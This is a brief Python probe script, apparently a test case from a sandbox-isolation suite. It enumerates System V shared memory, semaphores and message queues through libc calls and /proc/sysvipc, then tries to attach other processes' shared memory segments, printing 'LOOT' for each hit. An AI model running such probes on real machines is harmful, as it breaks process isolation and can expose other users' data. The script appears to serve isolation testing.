# attack: attaches the System V shared memory, and reads the message queues, of every process on the machine
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
buffer = ctypes.create_string_buffer(256)
for name, call in (("shm", lambda i: libc.shmctl(i, 13, buffer)), ("sem", lambda i: libc.semctl(i, 0, 18, buffer)), ("msg", lambda i: libc.msgctl(i, 11, buffer))):
    found = [i for i in range(200) if call(i) >= 0]
    print(name, found, os.strerror(ctypes.get_errno()))
    for i in found:
        print("LOOT:", name, i)
try:
    for kind in ("shm", "sem", "msg"):
        if len(open(f"/proc/sysvipc/{kind}").readlines()) > 1:
            print("LOOT: entries of", kind)
except OSError as error:
    print(error)
for identifier in range(40):
    if libc.shmat(identifier, None, 0o10000) not in (ctypes.c_void_p(-1).value, None):
        print("LOOT: attached", identifier)
print("TRIED")
